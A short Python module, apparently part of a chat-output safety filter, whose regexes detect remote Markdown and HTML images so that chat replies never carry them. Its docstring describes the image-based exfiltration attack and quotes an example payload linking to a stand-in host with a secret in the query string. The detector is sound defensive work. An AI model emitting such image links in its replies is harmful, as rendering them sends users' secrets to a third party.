"""Remote-image exfiltration in chat output: `![x](https://evil.example/p?d=<secret>)` makes a
browser send data to a third party the moment it renders. Chat output never carries remote
images, with or without a query string (the widget does not render them anyway)."""

from __future__ import annotations

import re

from .report import Span

REMOTE_IMAGE = re.compile(
    r"!\[[^\]\n]{0,300}\]\(\s*<?(?:[a-zA-Z][a-zA-Z0-9+.\-]*:)?//[^)\s>]+>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)"
    r"|<img\b[^>]*\bsrc\s*=\s*[\"']?(?:[a-zA-Z][a-zA-Z0-9+.\-]*:)?//[^>]*>",
    re.IGNORECASE,
)
OPEN_IMAGE = re.compile(r"!\[[^\n]{0,2048}$|<img\b[^>]{0,2048}$", re.IGNORECASE)  # may still become a remote image


def find_remote_images(text: str) -> list[Span]:
    return [Span(m.start(), m.end(), "remote_image") for m in REMOTE_IMAGE.finditer(text)]
